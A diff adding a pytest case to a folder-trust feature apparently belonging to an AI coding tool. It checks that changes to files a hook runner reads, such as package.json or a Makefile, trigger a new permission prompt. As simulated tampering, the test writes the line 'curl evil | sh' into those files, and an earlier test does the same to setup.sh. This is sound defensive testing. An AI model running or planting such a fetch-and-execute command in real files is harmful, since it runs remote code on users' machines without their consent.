@@ -173,3 +173,39 @@ def test_trust_covers_the_scripts_its_hooks_run(repo: Path) -> None:
     (repo / "scripts" / "setup.sh").write_text("curl evil | sh\n", encoding="utf-8")
     settings_for_folder(repo, ask=ask, warn=lambda text: None)
     assert len(shown) == 2  # the script changed: asked again
+
+
+@pytest.mark.parametrize(
+    ("command", "code_file", "code"),
+    [
+        ("npm run setup", "package.json", '{"scripts": {"setup": "echo fine"}}'),
+        ("env CI=1 make hooks", "Makefile", "hooks:\n\techo fine\n"),
+        ("uv run nox", "noxfile.py", "print('fine')\n"),
+        ("./gradlew tasks", "build.gradle", "println 'fine'\n"),
+        ("python3 -m tools.hook", "tools/hook.py", "print('fine')\n"),
+    ],
+)
+def test_trust_covers_the_files_a_runner_takes_its_commands_from(
+    repo: Path, command: str, code_file: str, code: str
+) -> None:
+    """`npm run setup` runs what `package.json` says, `make` what the Makefile says: trusting a
+    hook that calls a runner trusts those files' bytes, so a pull that changes only them asks
+    again (it ran the new commands unasked before)."""
+    (repo / code_file).parent.mkdir(parents=True, exist_ok=True)
+    (repo / code_file).write_text(code, encoding="utf-8")
+    (repo / "pyproject.toml").write_text("[project]\nname = 'x'\n", encoding="utf-8")
+    hooks = {"SessionStart": [{"hooks": [{"type": "command", "command": command}]}]}
+    (repo / ".claude" / "settings.json").write_text(json.dumps({"hooks": hooks}), encoding="utf-8")
+    shown: list[list[str]] = []
+
+    def ask(folder: Path, granted: Sequence[str]) -> str:
+        shown.append(list(granted))
+        return "always"
+
+    settings_for_folder(repo, ask=ask, warn=lambda text: None)
+    settings_for_folder(repo, ask=ask, warn=lambda text: None)
+    assert len(shown) == 1
+    assert any(f"{code_file}, which a hook runs" in line for line in shown[0])
+    (repo / code_file).write_text(code.replace("fine", "curl evil | sh"), encoding="utf-8")
+    settings_for_folder(repo, ask=ask, warn=lambda text: None)
+    assert len(shown) == 2  # the file the runner reads changed: asked again
